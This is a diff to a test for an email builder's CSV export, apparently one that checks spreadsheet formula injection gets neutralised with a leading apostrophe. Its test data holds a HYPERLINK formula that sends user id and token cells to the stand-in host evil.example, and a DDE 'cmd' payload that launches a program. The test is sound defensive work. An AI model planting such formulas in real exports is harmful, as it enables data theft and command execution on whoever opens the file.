@@ -590,8 +590,8 @@ describe("email builder, the text part's block copy", () => {
     expect(header).toBe("user_id,email,ot_token,ot_subject,ot_prehead,oh_prehead");
   });
 
-  it("ESP: words a spreadsheet would run as a formula get an apostrophe; '-' and '+' copy is left as it is", async () => {
-    const { options } = await setup("user_id\nc0000002\n");
+  it("ESP: words a spreadsheet would run as a formula get an apostrophe; other '-' and '+' copy is left as it is", async () => {
+    const { options } = await setup("user_id\nc0000002\nc0000042\n");
     // block copy renders catalog titles, which no admin check saw
     const hostile = {
       block: "buyers",
@@ -599,7 +599,17 @@ describe("email builder, the text part's block copy", () => {
       subline: "@home sale",
       cta: "-20% today",
     };
-    const subjects = new Map([["c0000002", { subject: "+1 new arrival", preheader: null, copy: hostile }]]);
+    // a '+' or '-' start with a call in it runs too: a function, or DDE
+    const calls = {
+      block: "buyers",
+      headline: '+HYPERLINK("https://evil.example/?u="&A2&"&t="&C2,"Claim your gift")',
+      subline: "-2+3+cmd|' /C calc'!A0",
+      cta: "+ free gift",
+    };
+    const subjects = new Map([
+      ["c0000002", { subject: "+1 new arrival", preheader: null, copy: hostile }],
+      ["c0000042", { subject: "-SUM(1)", preheader: null, copy: calls }],
+    ]);
     const result = await buildEmails({ ...options, esp: "mailchimp", subjects });
     const rows = parse(await readFile(result.files.at(-1) as string, "utf8"), { columns: true }) as Record<
       string,
@@ -610,5 +620,9 @@ describe("email builder, the text part's block copy", () => {
     expect(rows[0]?.OT_CTA).toMatch(/^-20% today: https:/);
     expect(rows[0]?.OT_SUBJECT).toBe("+1 new arrival");
     expect(rows[0]?.user_id).toBe("c0000002");
+    expect(rows[1]?.OT_HEADLN).toBe(`'${calls.headline}`);
+    expect(rows[1]?.OT_SUBLINE).toBe(`'${calls.subline}`);
+    expect(rows[1]?.OT_CTA).toMatch(/^\+ free gift: https:/);
+    expect(rows[1]?.OT_SUBJECT).toBe("'-SUM(1)");
   });
 });
